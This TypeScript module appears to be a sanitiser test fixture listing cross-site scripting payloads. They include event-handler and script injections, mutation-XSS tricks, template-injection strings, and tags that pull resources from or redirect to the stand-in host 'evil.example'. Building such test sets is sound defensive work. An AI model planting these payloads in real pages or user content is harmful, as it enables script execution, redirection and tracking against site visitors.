/** Texts that run, load or lead astray where somebody takes them for markup. Each part that comes alive carries the mark. */
export const MARK = 'data-xss';
export const ELSEWHERE = 'evil.example';

const alarm = 'alert(`xss`)';

export const payloads: readonly string[] = [
  `<img ${MARK} src=x onerror=${alarm}>`,
  `<svg ${MARK} onload=${alarm}></svg>`,
  `<script ${MARK}>${alarm}</script>`,
  `"><img ${MARK} src=x onerror=${alarm}>`,
  `'><b ${MARK} onmouseover=${alarm}>b</b>`,
  `</textarea></title></style></script><img ${MARK} src=x onerror=${alarm}>`,
  `<iframe ${MARK} srcdoc="<script>parent.${alarm}</script>"></iframe>`,
  `<a ${MARK} href="javascript:${alarm}">a</a>`,
  `<details ${MARK} open ontoggle=${alarm}>d</details>`,
  `<math><mtext></form><form><mglyph><style></math><img ${MARK} src onerror=${alarm}>`,
  `<noscript><p title="</noscript><img ${MARK} src=x onerror=${alarm}>">`,
  `<form ${MARK} action="//${ELSEWHERE}"><button>b</button></form>`,
  `<link ${MARK} rel=stylesheet href="//${ELSEWHERE}/a.css">`,
  `<img ${MARK} src="//${ELSEWHERE}/pixel.png">`,
  `<style ${MARK}>*{background:url(//${ELSEWHERE}/s)}</style>`,
  `<base ${MARK} href="//${ELSEWHERE}/">`,
  `<meta ${MARK} http-equiv=refresh content="0;url=//${ELSEWHERE}/">`,
  `<!--><img ${MARK} src=x onerror=${alarm}>-->`,
  `<x ${MARK} style="animation-name:x" onanimationstart=${alarm}>x</x>`,
  `![p](https://${ELSEWHERE}/p.png) [l](javascript:${alarm}) [m](https://${ELSEWHERE}/" ${MARK} onmouseover="${alarm})`,
  `[a](data:text/html,<script>${alarm}</script>) **<b ${MARK} onclick=${alarm}>b</b>** \`<i ${MARK}>\``,
  `{{constructor.constructor('${alarm}')()}} \${${alarm}} <%= ${alarm} %>`,
  `\u202e<img ${MARK} src=x onerror=${alarm}>\u0000`.replace('\u0000', ''),
];

/** Short enough for a name, and alive in text, in an attribute and after a tag. */
export const [NAME = ''] = [`"'><img ${MARK} src=x onerror=${alarm}>`];
